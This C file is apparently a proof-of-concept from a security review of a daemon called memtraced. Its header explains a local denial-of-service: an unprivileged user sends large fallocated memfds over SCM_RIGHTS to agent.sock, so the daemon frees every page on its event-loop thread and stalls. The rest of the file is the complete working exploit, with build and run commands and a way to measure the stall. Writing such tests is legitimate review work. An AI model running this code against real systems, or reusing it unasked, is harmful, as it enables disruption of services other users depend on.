/*
 * memfd_close.c - a local user stalls memtraced's loop by passing memfds
 * full of pages with SCM_RIGHTS: the daemon closes a descriptor it does not
 * want on the loop thread when it "closes at once" (fdsink.c:
 * closes_at_once() says a memfd's release never waits), and drain_open()'s
 * failure path closes the HELLO descriptor on the loop too. Being the last
 * reference, that close frees every page of the file on the loop thread.
 *
 * The attacker fallocates N memfds of MiB each, sends them in one message
 * on agent.sock (the first becomes the would-be region, the rest are
 * "descriptors not asked for"), closes its own references, repeats K times.
 *
 * Build: cc -O2 -o /tmp/priv-rev/memfd_close /work/review/hostile/memfd_close.c
 * Run (as the attacker):
 *   setpriv --reuid=65534 --regid=65534 --clear-groups \
 *       /tmp/priv-rev/memfd_close RUNTIME_DIR [N=2] [MIB=1024] [K=3]
 * Then (root): memtracectl --runtime-dir RUNTIME_DIR status  -> loop.stall_max_seconds
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	if (argc < 2) {
		fprintf(stderr, "usage: %s RUNTIME_DIR [N] [MIB] [K]\n", argv[0]);
		return 2;
	}
	int n = argc > 2 ? atoi(argv[2]) : 2;
	long mib = argc > 3 ? atol(argv[3]) : 1024;
	int k = argc > 4 ? atoi(argv[4]) : 3;
	if (n < 1 || n > 253)
		return 2;
	for (int round = 0; round < k; round++) {
		int fds[253];
		for (int i = 0; i < n; i++) {
			fds[i] = memfd_create("big", MFD_CLOEXEC);
			if (fds[i] < 0 || fallocate(fds[i], 0, 0, (off_t)mib << 20) < 0) {
				perror("memfd/fallocate");
				return 1;
			}
		}
		struct sockaddr_un a = {.sun_family = AF_UNIX};
		snprintf(a.sun_path, sizeof a.sun_path, "%s/agent.sock", argv[1]);
		int s = socket(AF_UNIX, SOCK_STREAM, 0);
		if (connect(s, (struct sockaddr *)&a, sizeof a) < 0) {
			perror("connect");
			return 1;
		}
		char ctlbuf[CMSG_SPACE(253 * sizeof(int))];
		memset(ctlbuf, 0, sizeof ctlbuf);
		char byte = 0;
		struct iovec iov = {&byte, 1};
		struct msghdr m = {.msg_iov = &iov,
		                   .msg_iovlen = 1,
		                   .msg_control = ctlbuf,
		                   .msg_controllen = CMSG_SPACE(n * sizeof(int))};
		struct cmsghdr *c = CMSG_FIRSTHDR(&m);
		c->cmsg_level = SOL_SOCKET;
		c->cmsg_type = SCM_RIGHTS;
		c->cmsg_len = CMSG_LEN(n * sizeof(int));
		memcpy(CMSG_DATA(c), fds, n * sizeof(int));
		if (sendmsg(s, &m, MSG_NOSIGNAL) != 1) {
			perror("sendmsg");
			return 1;
		}
		for (int i = 0; i < n; i++)
			close(fds[i]); /* the message holds the last references now */
		printf("round %d: sent %d memfds of %ld MiB\n", round, n, mib);
		fflush(stdout);
		/* wait for the daemon to drop the connection */
		char b;
		while (read(s, &b, 1) > 0)
			;
		close(s);
		sleep(1);
	}
	return 0;
}
